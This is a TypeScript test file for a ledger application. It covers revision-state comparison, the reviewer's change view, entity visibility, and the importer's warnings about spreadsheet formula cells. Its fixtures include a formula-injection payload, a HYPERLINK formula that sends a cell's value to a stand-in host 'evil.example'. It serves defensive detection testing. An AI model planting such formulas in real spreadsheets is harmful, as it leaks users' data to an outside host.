/**
 * Issue 15 (2, 3, 9), the pure parts: how a pending revision is compared, restored from the
 * audit trail and shown to a reviewer (as the public would see it); which entities are public;
 * and the importer's warning about cells a spreadsheet would run as formulas.
 */
import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { startsLikeFormula } from "@/lib/domain/formula-cells";
import { parseCsv, parseXlsx } from "@/lib/ledger/import/parse";
import { formulaWarnings, planImport } from "@/lib/ledger/import/plan";
import { shownChanges, shownResult } from "@/lib/ledger/revision-reads";
import { sameState, snapshotState, stateFromSnapshot, type ResultState } from "@/lib/ledger/revisions";
import { isEntityPublic } from "@/lib/record/visibility";
import type { EntityRecord } from "@/lib/record/dataset";
import { ENTITY_TYPES, TYPES_CREATED_FROM_RESULTS } from "@/lib/domain/types";
import { METHODOLOGY_2023 } from "./fixtures";
import { importContext } from "./import-context";

const HEADER = "year,entity_type,entity_name,province,score,zone,category,opinion,national_rank,province_rank,source_url,notes";

const published: ResultState = {
  entityId: 10,
  year: 2023,
  provinceId: 63,
  score: 9166,
  dimensionScores: null,
  publishedZone: "HIJAU",
  publishedCategory: "A",
  publishedOpinion: null,
  publishedNationalRank: 2,
  publishedProvinceRank: null,
  sourceUrl: "https://sumber.example/a",
  notes: "",
  hasConflict: false,
  deleted: false,
  sources: [
    { sourceId: 1, isPrimary: true, score: 9166, zone: "HIJAU", category: "A", opinion: null, nationalRank: 2, provinceRank: null, sourceUrl: "https://sumber.example/a", notes: "", origin: "results.csv:2", yearInferred: false, rankFromList: false, provinceRankWithinType: false, disputed: false },
    { sourceId: 2, isPrimary: false, score: 9100, zone: null, category: null, opinion: null, nationalRank: null, provinceRank: null, sourceUrl: "https://sumber.example/b", notes: "", origin: "results.csv:3", yearInferred: false, rankFromList: false, provinceRankWithinType: false, disputed: false },
  ],
};

const names = { entity: (id: number) => (id === 10 ? "Polres Balangan" : "Polres Tabalong"), province: (id: number | null) => (id === 63 ? "Kalimantan Selatan" : null) };

describe("pending revisions: states", () => {
  it("compares sources as a set, and every field and the deleted flag", () => {
    expect(sameState(published, { ...published, sources: [...published.sources].reverse() })).toBe(true);
    expect(sameState(published, { ...published, score: 9167 })).toBe(false);
    expect(sameState(published, { ...published, deleted: true })).toBe(false);
    expect(sameState(published, { ...published, hasConflict: true })).toBe(false);
    expect(sameState(published, { ...published, sources: [{ ...published.sources[0]!, isPrimary: false }, { ...published.sources[1]!, isPrimary: true }] })).toBe(false);
    expect(sameState(published, { ...published, sources: published.sources.slice(0, 1) })).toBe(false);
  });

  it("restores from its own audit snapshot exactly, and from an older snapshot only the fields it recorded", () => {
    const proposed: ResultState = { ...published, score: 4321, publishedZone: "MERAH", deleted: true, sources: [{ ...published.sources[0]!, score: 4321 }] };
    const snapshot = JSON.parse(
      JSON.stringify(snapshotState(proposed, { status: "PUBLISHED", publishedAt: new Date(0), deletedAt: null, pending: true }, { computedZone: "MERAH", computedCategory: "D", computedLabel: "x" })),
    ) as Record<string, unknown>;
    expect(snapshot).toMatchObject({ score: 4321, status: "PUBLISHED", pending: true, computedZone: "MERAH" });
    expect(typeof snapshot.deletedAt).toBe("string");
    expect(sameState(stateFromSnapshot(published, snapshot), proposed)).toBe(true);
    // An audit row written before revisions existed: no ranks, conflict flag nor sources.
    const old = { entityId: 10, year: 2023, provinceId: 63, score: 9000, dimensionScores: null, publishedZone: "HIJAU", publishedCategory: "A", publishedOpinion: null, status: "PUBLISHED", sourceUrl: "https://sumber.example/a", notes: "lama", deletedAt: null };
    const restored = stateFromSnapshot(published, old);
    expect(restored).toMatchObject({ score: 9000, notes: "lama", publishedNationalRank: 2, deleted: false });
    expect(restored.sources).toBe(published.sources);
  });
});

describe("pending revisions: the reviewer's view", () => {
  it("shows each change as the public would see it: the score, the zone and category from the year's bands", () => {
    const before = shownResult(published, names, METHODOLOGY_2023);
    const after = shownResult({ ...published, score: 5000, publishedZone: null, publishedCategory: null, entityId: 11 }, names, METHODOLOGY_2023);
    expect(before).toMatchObject({ entity: "Polres Balangan", province: "Kalimantan Selatan", score: 9166, zone: "HIJAU", category: "A", label: "Kualitas Tertinggi" });
    const changes = shownChanges(before, after);
    expect(changes.map((c) => [c.field, c.before, c.after])).toEqual([
      ["entity", "Polres Balangan", "Polres Tabalong"],
      ["score", 9166, 5000],
      ["zone", "HIJAU", "MERAH"],
      ["category", "A", "D"],
      ["label", "Kualitas Tertinggi", "Kualitas Rendah"],
    ]);
  });

  it("shows a zone-only result's published zone, a deletion, and a new source", () => {
    const zoneOnly = { ...published, score: null, publishedCategory: null };
    const changes = shownChanges(
      shownResult(zoneOnly, names, METHODOLOGY_2023),
      shownResult({ ...zoneOnly, publishedZone: "KUNING", deleted: true, sources: [...published.sources, { ...published.sources[1]!, sourceId: null, sourceUrl: "https://sumber.example/c" }] }, names, METHODOLOGY_2023),
    );
    expect(changes.map((c) => c.field)).toEqual(["deleted", "zone", "sources"]);
    expect(changes[1]).toMatchObject({ before: "HIJAU", after: "KUNING" });
  });

  it("has no change to show for the same state", () => {
    expect(shownChanges(shownResult(published, names, METHODOLOGY_2023), shownResult({ ...published }, names, METHODOLOGY_2023))).toEqual([]);
  });
});

describe("entity visibility (lib/record/visibility.ts)", () => {
  const entity = (type: EntityRecord["type"]): EntityRecord => ({ id: 1, slug: "x", name: "X", type, province: null, regencyCode: null, aliases: [], aliasKeys: [] });
  const row = { year: 2024, row: {} } as never;

  it("keeps an entity created as results name it private until one of its results is published", () => {
    for (const type of TYPES_CREATED_FROM_RESULTS) {
      expect(isEntityPublic(entity(type), []), type).toBe(false);
      expect(isEntityPublic(entity(type), [row]), type).toBe(true);
    }
  });

  it("makes such an entity public when a published group statement names it, with no result of its own", () => {
    for (const type of TYPES_CREATED_FROM_RESULTS) {
      expect(isEntityPublic(entity(type), [], false), type).toBe(false);
      expect(isEntityPublic(entity(type), [], true), type).toBe(true);
    }
  });

  it("keeps every reference entity public, assessed or not", () => {
    const reference = ENTITY_TYPES.filter((t) => !TYPES_CREATED_FROM_RESULTS.includes(t));
    expect(reference).toEqual(expect.arrayContaining(["PEMPROV", "PEMKAB", "PEMKOT", "KANTOR_PERTANAHAN"]));
    for (const type of reference) expect(isEntityPublic(entity(type), []), type).toBe(true);
  });
});

describe("the importer's warning about formula cells", () => {
  it("follows the exports' rule: = + - @ tab CR start a formula, a negative number does not", () => {
    for (const text of ["=1+1", "+62 811", "-x", "@SUM(A1)", "\tnama", "\rnama", '=HYPERLINK("http://evil.example/?x="&A2,"Klik")']) expect(startsLikeFormula(text), JSON.stringify(text)).toBe(true);
    for (const text of ["-3.25", "-12", "91,66", "Kota Banjarmasin", "", "'=HYPERLINK()"]) expect(startsLikeFormula(text), JSON.stringify(text)).toBe(false);
  });

  it("names the line and column of each such cell in a CSV, as written before trimming, and changes nothing", () => {
    const csv = [
      HEADER,
      '2024,PEMKOT,Banjarmasin,KALIMANTAN SELATAN,95.45,HIJAU,A,,24,1,https://x.test/a,"=HYPERLINK(""http://evil.example/?x=""&A2,""Klik"")"',
      "2024,PEMKAB,Tanah Laut,KALIMANTAN SELATAN,-3.25,,,,,,https://x.test/b,\tcatatan",
      "2024,PEMKAB,Tapin,KALIMANTAN SELATAN,80,,,@opini,,,https://x.test/c,biasa",
    ].join("\n");
    const parsed = parseCsv(csv);
    if (!parsed.ok) throw new Error(parsed.message);
    expect(parsed.rows.map((r) => r.formulaCells?.map((c) => c.column) ?? [])).toEqual([["notes"], ["notes"], ["opinion"]]);
    // Read as written: the cell's text is imported unchanged (trimmed like every cell).
    expect(parsed.rows[0]!.values.notes).toBe('=HYPERLINK("http://evil.example/?x="&A2,"Klik")');
    expect(parsed.rows[1]!.values.notes).toBe("catatan");
    const warnings = parsed.rows.flatMap(formulaWarnings);
    expect(warnings.map((w) => [w.line, w.severity, w.column])).toEqual([
      [2, "warning", "notes"],
      [3, "warning", "notes"],
      [4, "warning", "opinion"],
    ]);
    expect(warnings[0]!.message).toContain('Sel diawali "="');
    expect(warnings[1]!.message).toContain("Sel diawali tab");
    // In the plan: warnings beside the other issues; the rows are still importable.
    const plan = planImport(parsed.rows, importContext());
    expect(plan.issues.filter((i) => i.message.includes("rumus")).map((i) => [i.line, i.column])).toEqual([[2, "notes"], [3, "notes"], [4, "opinion"]]);
  });

  it("warns about an XLSX cell that holds a formula (its result is what is read) and a text cell that starts like one", async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet("Hasil");
    sheet.addRow(HEADER.split(","));
    sheet.addRow(["2024", "PEMKOT", "Banjarmasin", "KALIMANTAN SELATAN", { formula: "90+5.45", result: 95.45 }, "", "", "", "", "", "https://x.test/a", "+catatan"]);
    const parsed = await parseXlsx(new Uint8Array(await workbook.xlsx.writeBuffer()));
    if (!parsed.ok) throw new Error(parsed.message);
    expect(parsed.rows[0]!.values.score).toBe("95.45");
    const warnings = formulaWarnings(parsed.rows[0]!);
    expect(warnings.map((w) => w.column).sort()).toEqual(["notes", "score"]);
    expect(warnings.find((w) => w.column === "score")!.message).toContain("rumus Excel (=90+5.45)");
  });
});
